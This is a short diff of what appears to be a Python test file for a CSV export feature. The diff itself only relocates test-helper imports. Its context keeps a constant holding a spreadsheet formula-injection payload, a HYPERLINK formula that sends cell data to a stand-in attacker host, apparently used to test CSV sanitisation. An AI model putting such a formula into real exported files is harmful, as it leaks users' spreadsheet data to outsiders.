@@ -14,7 +14,7 @@ from sitrep.export import write_events
 from sitrep.export.writers import csv_safe
 from sitrep.models import EventFilter
 from sitrep.store import Store
-from sitrep.store.testing import make_article, make_event, make_result
+from tests.helpers import make_article, make_event, make_result
 
 HOSTILE = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")'
 
